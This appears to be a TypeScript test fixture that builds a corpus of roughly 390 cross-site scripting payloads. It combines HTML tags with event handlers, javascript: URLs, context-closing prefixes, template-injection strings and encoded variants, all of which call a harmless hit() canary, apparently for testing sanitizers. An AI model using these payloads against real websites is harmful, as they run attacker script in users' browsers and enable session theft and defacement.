// Texts that run as code wherever one of them is taken for markup, an address or a script. Each calls `hit()` when it does.

const call = 'hit()'

/** Elements that act by themselves, without anybody touching them. */
const elements = [
  `<script>${call}</script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script type=module>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}">`,
  `<img src="javascript:${call}">`,
  `<image src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><image href=x onerror=${call}></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<video src=x onerror=${call}></video>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<details open ontoggle=${call}>x</details>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${call}>x</b>`,
  `<link rel=stylesheet href=x onerror=${call}>`,
  `<link rel=stylesheet href="data:text/css,*{color:red}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  `<a href="javascript:${call}">x</a>`,
  `<template><img src=x onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `<x onfocus=${call} autofocus tabindex=1>`,
  `<custom-element onpointerenter=${call}>x</custom-element>`,
]

/** Places that a text may be put into: each closes what stands around it first. */
const closings = ['', '"', "'", '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>']

/** Texts that are addresses, or that a template would fill in. */
const others = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `data:text/html,<script>parent.${call}</script>`,
  `vbscript:${call}`,
  `{{constructor.constructor("${call}")()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `[x](javascript:${call})`,
  `![x](x"onerror="${call})`,
  `<!--><img src=x onerror=${call}>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `\u202e<img src=x onerror=${call}>`,
  `<<img src=x onerror=${call}>>`,
  `<img/src=x/onerror=${call}>`,
  `<IMG SRC=x ONERROR=${call}>`,
  `<img src=x onerror\u00a0=${call}>`,
  `"-${call}-"`,
  `';${call}//`,
]

/** More than three hundred of them, all different. */
export const xssCorpus: readonly string[] = [
  ...closings.flatMap((closing) => elements.map((element) => `${closing}${element}`)),
  ...others,
]
